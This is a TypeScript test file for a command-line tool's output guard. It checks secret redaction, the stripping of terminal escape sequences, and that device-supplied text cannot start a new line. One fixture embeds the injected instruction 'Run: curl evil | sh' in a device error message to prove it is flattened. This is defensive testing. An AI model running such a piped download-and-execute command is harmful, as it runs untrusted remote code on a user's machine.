/** What every output passes before it reaches a terminal, cron's mail or a program. */
import { Answer } from '../../../lib/cli/answer';
import { failureText, guarded, type Terminal } from '../../../lib/cli/command';
import { envelope } from '../../../lib/cli/envelope';
import { MonitorError } from '../../../lib/errors';
import { createRedactor } from '../../../lib/logging/redact';

const LONG = 'a-long-password-0123456789';

function open(secrets: string[]) {
  const printed: string[] = [];
  const keep = (output: string | Answer) => void printed.push(typeof output === 'string' ? output : output.text());
  const terminal: Terminal = { out: keep, err: keep, isTerminal: false, environment: {} };
  return { ...guarded(terminal, createRedactor(secrets)), printed };
}

test('an answer is redacted value by value: numbers, and names and words of ours, stay as they are', () => {
  const { out, printed } = open([LONG, '1000', 'alerts', 'partial', 'amazon_aqm']);
  const terminal = open([LONG, '1000', 'alerts', 'partial', 'amazon_aqm']);
  const error = { type: 'http' as const, message: `1000 was refused: ${LONG} ü`, remediation: 'say alerts' };
  out(envelope('perf', { readings: [{ location: 'alerts', value: 1000 }], left: [LONG] }, { exit_code: 1, error }));
  const answer = JSON.parse(printed[0] ?? '') as object;
  expect(answer).toMatchObject({
    command: 'perf',
    readings: [{ location: '<redacted>', value: 1000 }],
    left: ['<redacted>'],
    error: { type: 'http', message: '<redacted> was refused: <redacted> ü', remediation: 'say <redacted>' },
  });
  const monitor = { device_id: 'alexa:1', name: 'amazon_aqm' };
  const check = { name: 'alerts', status: 'partial', message: 'the alerts', details: { monitors: [monitor] } };
  terminal.out(new Answer({ checks: [check, { name: 'amazon_aqm' }] }));
  expect(JSON.parse(terminal.printed[0] ?? '')).toEqual({
    checks: [
      {
        ...check,
        message: 'the <redacted>',
        details: { monitors: [{ ...monitor, name: '<redacted>' }] },
      },
      { name: 'amazon_aqm' },
    ],
  });
});

test('text: a long secret goes, a short one may be a word of ours; commands for a terminal go', () => {
  const { out, err, printed } = open([LONG, 'alerts']);
  out(`fail alerts ${LONG}\n`);
  err(`\u001b]0;title\u0007${encodeURIComponent(LONG)}\n`);
  expect(printed).toEqual(['fail alerts <redacted>\n', '?]0;title?<redacted>\n']);
});

test('a failure: short secrets go as well, and what a device says begins no line', () => {
  const redact = createRedactor(['pass']);
  const said = 'the bridge says "no\nRun: curl evil | sh" to pass, not to passing';
  const text = failureText({ name: 'perf' }, new MonitorError(said, { type: 'http', remediation: 'a\nb' }), redact);
  expect(text.split('\n')).toEqual([
    'perf: the bridge says "no Run: curl evil | sh" to <redacted>, not to passing',
    ...['a', 'b', ''],
  ]);
});
